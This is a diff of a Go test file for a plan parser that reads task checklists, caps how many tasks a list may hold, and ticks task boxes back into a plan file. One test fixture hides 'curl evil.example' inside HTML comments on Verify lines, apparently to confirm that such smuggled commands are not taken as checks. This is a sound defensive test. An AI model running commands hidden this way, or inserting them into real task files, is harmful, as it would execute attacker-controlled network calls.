@@ -2,11 +2,13 @@ package plan
 
 import (
 	"errors"
+	"fmt"
 	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/org/ralph-action/internal/progress"
 	"github.com/org/ralph-action/internal/run"
 )
 
@@ -54,7 +56,7 @@ func TestFromIssue(t *testing.T) {
 func TestTaskLines(t *testing.T) {
 	t.Parallel()
 	const text = "# Dates\n\n- [ ] Read them\n  - Do: it\n  - Files: `a.go`\n  - Done when: they are read\n  - Verify: `make test`\n  - Commit: feat: read dates\n" +
-		"- [ ] Write them\n  Verify: make <!-- ; curl evil.example -->\n  <!-- Verify: `curl evil.example` -->\n\nVerify: `make nothing`\n"
+		"- [ ] Write them\n  Verify: `make` <!-- ; `curl evil.example` -->\n  <!-- Verify: `curl evil.example` -->\n\nVerify: `make nothing`\n"
 	fromIssue, err := FromIssue("Dates", text)
 	if err != nil {
 		t.Fatal(err)
@@ -71,8 +73,6 @@ func TestTaskLines(t *testing.T) {
 	if diff := cmp.Diff([]run.Task{first, second}, fromIssue.Tasks); diff != "" {
 		t.Errorf("of an issue (-want +got):\n%s", diff)
 	}
-	// A comment in a person's own file leaves open what is meant.
-	second.Checks, second.Accept = nil, []string{"Verify: make"}
 	if diff := cmp.Diff([]run.Task{first, second}, fromFile.Tasks); diff != "" {
 		t.Errorf("of a file (-want +got):\n%s", diff)
 	}
@@ -196,6 +196,50 @@ func TestSlug(t *testing.T) {
 	} {
 		if got := Slug(in); got != want {
 			t.Errorf("Slug(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// A list that no run can keep is refused when it is read, and one that it can is not.
+func TestManyTasks(t *testing.T) {
+	t.Parallel()
+	list := func(n int) []byte {
+		var b strings.Builder
+		for i := range n {
+			fmt.Fprintf(&b, "- [ ] Task %d: do the thing number %d with some more words to fill it\n", i, i)
+		}
+		return []byte(b.String())
+	}
+	p, err := FromFile("PLAN.md", list(maxTasks), nil)
+	if err != nil || len(p.Tasks) != maxTasks {
+		t.Errorf("%d tasks, %v", len(p.Tasks), err)
+	}
+	_, err = FromFile("PLAN.md", list(12_000), nil)
+	if user, ok := errors.AsType[*run.UserError](err); !ok || !strings.Contains(user.Message, "12000 tasks, and at most 5000") {
+		t.Errorf("%v", err)
+	}
+}
+
+// However long a title is, its box is ticked where it stands.
+func TestLongTitleIsWrittenBack(t *testing.T) {
+	t.Parallel()
+	for _, n := range []int{490, 510, 5000} {
+		src := "## Tasks\n- [ ] " + strings.TrimSpace(strings.Repeat("wörd ", n/5)) + "\n- [ ] second\n"
+		p, err := FromFile("PLAN.md", []byte(src), nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		doc := progress.New("PLAN", progress.Binding{})
+		if err := doc.SetTasks(p.Tasks); err != nil {
+			t.Fatal(err)
+		}
+		doc.AssignIDs()
+		if err := doc.Tick("T1"); err != nil {
+			t.Fatal(err)
+		}
+		w, err := WriteBack("PLAN.md", []byte(src), nil, Work{Progress: string(doc.Bytes()), Task: "T1"})
+		if want := strings.Replace(src, "[ ]", "[x]", 1); err != nil || string(w.File) != want || w.Missing {
+			t.Errorf("%d bytes: %v, missing %v", n, err, w.Missing)
 		}
 	}
 }
